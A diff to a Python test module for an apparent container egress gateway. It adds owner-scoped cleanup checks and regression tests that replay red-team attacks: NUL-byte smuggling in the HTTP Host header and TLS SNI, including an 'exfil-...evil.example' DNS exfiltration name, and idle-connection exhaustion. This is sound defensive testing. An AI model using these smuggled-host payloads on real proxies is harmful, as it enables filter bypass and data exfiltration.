@@ -10,6 +10,7 @@ from __future__ import annotations
 import contextlib
 import secrets
 import shutil
+import socket
 import subprocess
 import time
 from collections.abc import Iterator
@@ -19,7 +20,7 @@ from typing import Any
 
 import pytest
 
-from mppoci.egress.network import EGRESS_LABEL, host_addresses
+from mppoci.egress.network import OWNER_LABEL, host_addresses
 from tests.conftest import MPPOCI, run_mppoci
 from tests.registry_fixtures import make_cert
 
@@ -161,6 +162,44 @@ def world(
             network.remove()
 
 
+# The owner label (host:pid) of every `mppoci run` this module started: the
+# containers and networks of OUR runs, never another engineer's on the engine.
+_OWNERS: set[str] = set()
+
+
+def _start(home: Path, *args: str, env: dict[str, str]) -> subprocess.Popen[str]:
+    """`mppoci run ...` started, its owner label recorded (see run_mppoci)."""
+    import os
+
+    proc = subprocess.Popen(
+        [str(MPPOCI), *args],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        stdin=subprocess.DEVNULL,
+        text=True,
+        env={**os.environ, "MPPOCI_HOME": str(home), "MPPOCI_PASSWORD": "pw", **env},
+    )
+    _OWNERS.add(f"{socket.gethostname()}:{proc.pid}")
+    return proc
+
+
+def _finish(proc: subprocess.Popen[str]) -> subprocess.CompletedProcess[str]:
+    out, err = proc.communicate(timeout=600)
+    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
+
+
+def _ours(docker_client: Any, kind: str, owners: set[str]) -> list[Any]:
+    """The containers (running or not) or networks labelled with one of ``owners``."""
+    found = []
+    for owner in sorted(owners):
+        label = {"label": f"{OWNER_LABEL}={owner}"}
+        if kind == "network":
+            found += docker_client.api.networks(filters=label)
+        else:
+            found += docker_client.api.containers(all=True, filters=label)
+    return found
+
+
 _mppoci = run_mppoci
 
 
@@ -195,14 +234,17 @@ def rebind_package(world: dict[str, str], tmp_path_factory: pytest.TempPathFacto
 def _run_tool(
     home: Path, world: dict[str, str], name: str, args: list[str]
 ) -> tuple[dict[str, str], str]:
-    env = {"MPPOCI_EGRESS_NETWORK": world["network"], "MPPOCI_EGRESS_DNS": world["dns_ip"]}
-    result = _mppoci(home, "run", name, "--", *args, env=env)
+    result = _finish(_start(home, "run", name, "--", *args, env=_world_env(world)))
     assert result.returncode == 0, result.stderr
     outcomes = {}
     for line in result.stdout.splitlines():
         label, _, rest = line.partition(": ")
         outcomes[label] = rest
     return outcomes, result.stderr
+
+
+def _world_env(world: dict[str, str]) -> dict[str, str]:
+    return {"MPPOCI_EGRESS_NETWORK": world["network"], "MPPOCI_EGRESS_DNS": world["dns_ip"]}
 
 
 def _run(home: Path, world: dict[str, str], token: str) -> dict[str, str]:
@@ -272,10 +314,13 @@ def test_every_attempt_reaching_the_gateway_is_audited(
 def test_no_network_or_container_is_left_behind(
     package: Path, world: dict[str, str], docker_client: Any
 ) -> None:
+    before = set(_OWNERS)
     with ThreadPoolExecutor(max_workers=4) as pool:
         list(pool.map(lambda _: _run(package, world, secrets.token_hex(4)), range(4)))
-    assert docker_client.networks.list(filters={"label": EGRESS_LABEL}) == []
-    assert docker_client.containers.list(all=True, filters={"label": EGRESS_LABEL}) == []
+    mine = _OWNERS - before  # these four runs only, not other runs on the engine
+    assert len(mine) == 4
+    assert _ours(docker_client, "network", mine) == []
+    assert _ours(docker_client, "container", mine) == []
 
 
 class _Listener:
@@ -393,23 +438,27 @@ def _inspect_during_run(
 
     seen: dict[str, dict[str, Any]] = {}
     done = threading.Event()
+    proc = _start(home, "run", "acme/egress", "--", "wait=3", env=_world_env(world))
+    owner = f"{socket.gethostname()}:{proc.pid}"
 
     def watch() -> None:
+        # Only this run's containers (its owner label), whatever else runs.
         while not done.is_set() and len(seen) < 3:
-            for c in docker_client.api.containers(
-                filters={"label": "dev.mppoci.package=acme/egress"}
-            ):
-                seen.setdefault("tool", docker_client.api.inspect_container(c["Id"]))
-            for c in docker_client.api.containers(filters={"label": EGRESS_LABEL}):
-                role = (c.get("Labels") or {}).get("dev.mppoci.role", "")
-                with contextlib.suppress(Exception):
-                    seen.setdefault(role, docker_client.api.inspect_container(c["Id"]))
+            for c in _ours(docker_client, "container", {owner}):
+                labels = c.get("Labels") or {}
+                role = labels.get("dev.mppoci.role") or (
+                    "tool" if labels.get("dev.mppoci.package") == "acme/egress" else ""
+                )
+                if role and c.get("State") == "running":
+                    with contextlib.suppress(Exception):
+                        seen.setdefault(role, docker_client.api.inspect_container(c["Id"]))
             time.sleep(0.05)
 
     watcher = threading.Thread(target=watch, daemon=True)
     watcher.start()
     try:
-        _run_tool(home, world, "acme/egress", ["wait=3"])
+        result = _finish(proc)
+        assert result.returncode == 0, result.stderr
     finally:
         done.set()
         watcher.join()
@@ -492,3 +541,60 @@ def test_a_flood_of_dns_queries_and_connections_ends_and_is_audited_as_counts(
     # 3000 queries and 3000 connections in all: what is not a record is counted.
     counted = summaries[0]["total"]
     assert len(records) - 1 + counted >= 6000 - 400, (len(records), counted)
+
+
+def _client_hello(name: bytes) -> bytes:
+    from tests.egress.test_gateway_attacks import client_hello
+
+    return client_hello(name)
+
+
+def test_a_nul_in_the_host_or_sni_does_not_reach_or_resolve_a_name_outside_the_wildcard(
+    package: Path, world: dict[str, str], docker_client: Any
+) -> None:
+    """The red team's break: ``Host: other.test\\0.svc.test`` matched
+    ``*.svc.test`` as text while getaddrinfo stopped at the NUL and dialled
+    other.test (inside the declared subnet); an SNI of
+    ``exfil-<hex>.evil.example\\0.svc.test`` carried data to the world's DNS.
+    Both must be refused by name, before any lookup, and audited."""
+    token = secrets.token_hex(6)
+    sends = [
+        b"GET / HTTP/1.1\r\nHost: other.test\x00.svc.test\r\n\r\n",
+        _client_hello(f"exfil-{token}.evil.example".encode() + b"\x00.svc.test"),
+        b"GET / HTTP/1.1\r\nHost: " + world["api_ip"].encode() + b"\x00.svc.test\r\n\r\n",
+    ]
+    before = len(_network_records(package))
+    got, _ = _run_tool(
+        package, world, "acme/egress", ["raw=" + ",".join(f"8443:{s.hex()}" for s in sends)]
+    )
+    for i in range(len(sends)):
+        assert got[f"raw {i}"].startswith("DENIED"), got
+    records = [r for r in _network_records(package)[before:] if r["event"] == "network.tcp"]
+    assert len(records) == len(sends), records
+    for record in records:
+        assert record["decision"] == "denied", record
+        assert record["reason"] == "destination not recognisable", record
+        assert "address" not in record, record  # never resolved, never dialled
+    dns_log = docker_client.containers.get(world["dns_container"]).logs().decode()
+    assert f"exfil-{token}".encode().hex() not in dns_log
+
+
+def test_idle_connections_past_the_cap_are_refused_and_do_not_kill_the_relay(
+    package: Path, world: dict[str, str]
+) -> None:
+    """The red team held thousands of idle connections to the relay until it
+    was OOM-killed (64 MiB). Past the cap (256 open at once) each is refused
+    at once and audited; the relay and the gateway live to the end of the run
+    (no network.stopped record)."""
+    from mppoci.egress.gateway import MAX_CONNECTIONS
+
+    extra = 40
+    before = len(_network_records(package))
+    got, _ = _run_tool(package, world, "acme/egress", [f"idle={MAX_CONNECTIONS + extra}"])
+    records = _network_records(package)[before:]
+    refused = [r for r in records if r.get("reason") == "too many connections"]
+    assert len(refused) == extra, records[-5:]
+    # At least those were closed at once (after the module's flood test the
+    # world's echo server may also close some it carried: not the relay's doing).
+    assert got["idle"].startswith("OK ") and int(got["idle"].split()[1]) >= extra, got
+    assert not [r for r in records if r["event"] == "network.stopped"], records[-5:]
